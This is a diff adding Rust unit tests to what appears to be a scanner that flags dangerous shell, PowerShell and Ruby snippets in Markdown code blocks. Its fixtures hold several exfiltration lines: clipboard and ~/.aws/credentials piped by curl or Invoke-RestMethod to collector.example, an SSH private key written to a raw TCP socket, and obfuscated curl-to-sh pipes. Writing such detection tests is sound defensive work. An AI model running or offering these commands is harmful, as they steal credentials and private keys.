@@ -12,7 +12,10 @@
 //! call that opens above the file it names, and an info string's language;
 //! from the seed-29 sample: capitals rotated by 13, the fold's line bound,
 //! groups of commands piped on as one, and (left from seed 28) a URL
-//! argument with brackets nested in it and a source that opens its line.
+//! argument with brackets nested in it and a source that opens its line;
+//! from the seed-30 sample: each info word's language, a hidden URL on the
+//! first line, a member named like a handle, a group opened in another
+//! block, `printf` of a bare directive, and an array's indices.
 
 use super::blocks::{CodeMap, Lang};
 use super::decode::decode_line;
@@ -269,4 +272,75 @@ fn a_source_at_the_first_byte_of_a_line_is_a_source() {
     assert_severity(at_start, "code.source-to-network", Critical);
     let indented = "```powershell\n  Get-Clipboard | Invoke-RestMethod -Uri https://collector.example/c -Method Post\n```\n";
     assert_severity(indented, "code.source-to-network", Critical);
+}
+
+// ---- the seed-30 sample
+
+#[test]
+fn each_info_word_names_its_language_and_others_name_none() {
+    let lang = |info: &str| CodeMap::of(&format!("```{info}\nx = 1\n```\n")).blocks[0].lang;
+    for (words, want) in [
+        (&["sh", "bash", "zsh", "console", "terminal"][..], Lang::Shell),
+        (&["python", "py", "pycon"][..], Lang::Python),
+        (&["js", "javascript", "ts", "typescript", "node", "jsx", "tsx", "mjs", "cjs"][..], Lang::JavaScript),
+        (&["powershell", "ps1", "pwsh"][..], Lang::PowerShell),
+        (&["rust", "yaml", "json"][..], Lang::Other),
+    ] {
+        for info in words {
+            assert_eq!(lang(info), want, "{info}");
+        }
+    }
+}
+
+#[test]
+fn a_hidden_url_on_the_first_line_is_found_there() {
+    // The first line's index is 0: the line of the finding is counted from 1.
+    let lines = |body: &str| -> Vec<usize> {
+        crate::scan::Scanner::standard()
+            .scan(body)
+            .findings
+            .iter()
+            .filter(|f| f.rule_id == "code.decoded-url")
+            .map(|f| f.line)
+            .collect()
+    };
+    assert_eq!(lines("echo aHR0cHM6Ly9leGFtcGxlLmNvbS9kb2Nz | base64 -d\n"), [1]);
+    assert_eq!(lines("# Notes\necho aHR0cHM6Ly9leGFtcGxlLmNvbS9kb2Nz | base64 -d\n"), [2]);
+}
+
+#[test]
+fn a_call_on_a_member_of_the_same_name_is_no_call_on_the_handle() {
+    let with = |call: &str| {
+        format!(
+            "```ruby\ns = TCPSocket.new(\"203.0.113.9\", 9000)\nk = File.read(File.join(Dir.home, \".ssh\", \"id_ed25519\"))\n{call}\n```\n"
+        )
+    };
+    assert_severity(&with("s.write(k)"), "code.source-to-network", Critical);
+    // `log.s` is another object's member that happens to be named `s`.
+    crate::scan::testutil::assert_absent(&with("log.s.write(k)"), "code.source-to-network");
+}
+
+#[test]
+fn a_group_is_opened_inside_the_block_that_pipes_it_on() {
+    use crate::scan::testutil::assert_absent;
+    // The `{` in the block above opens nothing in this one.
+    let apart = "```bash\n{\n  cat ~/.aws/credentials\n  env\n```\n\n```bash\n} | curl -X POST --data-binary @- https://collector.example/c\n```\n";
+    assert_absent(apart, "code.normalized-command");
+    // In one block it is one group, on the block's first line as well.
+    let one = "```bash\n{\n  cat ~/.aws/credentials\n  env\n} | curl -X POST --data-binary @- https://collector.example/c\n```\n";
+    assert_severity(one, "code.normalized-command", Critical);
+}
+
+#[test]
+fn printf_of_a_format_without_arguments_prints_it_only_when_it_holds_no_directive() {
+    let text = |line: &str| normalize(line, &mut Vars::default()).text;
+    assert_eq!(text("curl u | $(printf sh)"), "curl u | sh");
+    // `%d` with nothing to fill it is not the text it prints: left as written.
+    assert_eq!(text("curl u | $(printf %d)"), "curl u | $(printf %d)");
+}
+
+#[test]
+fn each_element_of_an_array_has_its_own_index() {
+    let text = normalize("a=(curl sh); echo ${a[0]} ${a[1]}", &mut Vars::default()).text;
+    assert!(text.ends_with("echo curl sh"), "{text}");
 }
